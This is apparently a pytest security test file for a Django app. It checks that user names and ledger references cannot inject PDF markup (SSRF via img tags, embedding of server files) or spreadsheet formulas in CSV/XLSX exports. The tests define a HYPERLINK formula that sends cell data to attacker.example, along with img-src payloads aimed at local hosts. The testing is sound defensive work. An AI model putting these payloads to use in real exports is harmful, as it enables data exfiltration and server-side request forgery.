"""Issue 21, item 3: no user's text becomes PDF markup or a spreadsheet formula. The writers
are core/documents.py (PDF) and core/exports.py (CSV, XLSX); every export goes through them."""

import io
import re
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from tests.accounts.factories import UserFactory
from tests.conftest import authenticate

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'


def _png() -> str:
    """A real 1×1 PNG on the server's disk (what `<img src="/path">` embedded), at a short path."""
    import tempfile

    from PIL import Image

    handle = tempfile.NamedTemporaryFile(suffix=".png", dir="/tmp", delete=False)  # noqa: SIM115
    Image.new("RGB", (1, 1), "red").save(handle, format="PNG")
    handle.close()
    return handle.name


def _statement_pdf(api_client, name: str):
    response = authenticate(api_client, UserFactory(name=name)).get(
        "/api/v1/reports/tax-statement/?fy=2026-27&format=pdf")
    assert response.status_code == 200, response.content[:300]
    assert response.content.startswith(b"%PDF")
    return response.content


def test_an_image_url_in_a_users_name_is_not_fetched(api_client, httpserver):
    """The tax statement PDF: `<img src="http://…">` made the server fetch the URL (SSRF)."""
    httpserver.expect_request("/s").respond_with_data(b"")
    _statement_pdf(api_client, f'<img src="{httpserver.url_for("/s")}" width="9" height="9"/>')
    assert httpserver.log == []


def test_a_server_file_named_in_a_users_name_is_not_embedded(api_client):
    import os

    path = _png()
    try:
        pdf = _statement_pdf(api_client, f'<img src="{path}" width="9" height="9"/>')
    finally:
        os.unlink(path)
    assert b"/Subtype /Image" not in pdf


def test_unclosed_markup_in_a_users_name_is_printed_not_a_500(api_client):
    _statement_pdf(api_client, "<b>unclosed & <i>co")


def test_the_pdf_helper_prints_markup_as_text_everywhere():
    from core.documents import PdfHeading, PdfTable, PdfText, pdf_build

    hostile = '<img src="http://127.0.0.1:9/x"/><b>unclosed <font name="nope">'
    pdf = pdf_build(title=hostile, blocks=[
        PdfHeading(hostile), PdfText(hostile),
        PdfTable(header=["Title", "Amount"], rows=[[hostile, "1.00"]], total=["Total", "1.00"]),
    ])
    assert pdf.startswith(b"%PDF") and b"/Subtype /Image" not in pdf


def test_reportlab_trusts_no_outside_resource():
    from reportlab import rl_config
    from reportlab.lib.utils import open_for_read

    import core.documents  # noqa: F401 (sets the trust on import)

    assert rl_config.trustedSchemes == [] and rl_config.trustedHosts == []
    with pytest.raises(OSError):
        open_for_read("http://127.0.0.1:9/anything")


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"])
def test_every_csv_and_xlsx_cell_that_could_be_a_formula_is_neutralised(text, tmp_path):
    from core.exports import csv_bytes, csv_cell, xlsx_write

    assert csv_cell(text) == "'" + text
    assert csv_bytes(["h"], [[text]]).decode().splitlines()[1].startswith(('"\'', "'"))
    target = tmp_path / "out.xlsx"
    xlsx_write(target, sheet_title="t", header=["h"], rows=[[text]])
    cell = load_workbook(target)["t"]["A2"]
    # (XML reads a carriage return back as a line feed; what matters is the quote and the type.)
    assert cell.data_type == "s" and cell.value.replace("\n", "\r") == ("'" + text).replace("\n", "\r")


def test_numbers_stay_numbers():
    from core.exports import csv_cell

    assert csv_cell(Decimal("-12.50")) == "-12.50" and csv_cell(-3) == "-3"
    assert csv_cell("plain") == "plain"
    assert csv_cell("+919876543210") == "+919876543210"  # a phone is a signed number, not a formula
    assert csv_cell("+91 1+1") == "'+91 1+1"
    with pytest.raises(TypeError):
        csv_cell(0.1)


def test_a_staff_report_export_writes_a_users_formula_as_text(settings):
    from tests.reports.conftest import read_csv, read_xlsx
    from tests.reports.factories import client_for, staff

    UserFactory(name=FORMULA, email="x@example.com")
    client = client_for(staff("admin"))
    names_csv = [row[2] for row in read_csv(client.get("/api/v1/admin/reports/onboarding/?group=user&format=csv"))]
    assert "'" + FORMULA in names_csv and FORMULA not in names_csv
    response = client.get("/api/v1/admin/reports/onboarding/?group=user&format=xlsx")
    body = response.content
    sheet = load_workbook(io.BytesIO(body)).active
    cells = [row[2] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells)
    assert "'" + FORMULA in [cell.value for cell in cells]
    assert not re.search(rb"<f>", _sheet_xml(body))
    assert read_xlsx(client.get("/api/v1/admin/reports/onboarding/?group=user&format=xlsx"))


def _sheet_xml(xlsx: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        return b"".join(archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/"))


def test_the_wallet_statement_csv_writes_a_typed_reference_as_text(api_client):
    from tests.wallet.factories import verified_investor
    from wallet.enums import AccountKind, EntryKind
    from wallet.services import ledger_post, wallet_open, wallet_system_account

    user = verified_investor()
    ledger_post(kind=EntryKind.DEPOSIT, reference=FORMULA[:100], memo=FORMULA,
                transfers=[(wallet_system_account(AccountKind.BANK), wallet_open(user=user).available,
                            Decimal("100.00"))])
    response = authenticate(api_client, user).get("/api/v1/wallet/ledger/?format=csv")
    text = b"".join(response.streaming_content).decode()
    assert "'" + FORMULA.replace('"', '""') in text and "," + FORMULA not in text
    assert ",100.00," in text  # the amount is still a number
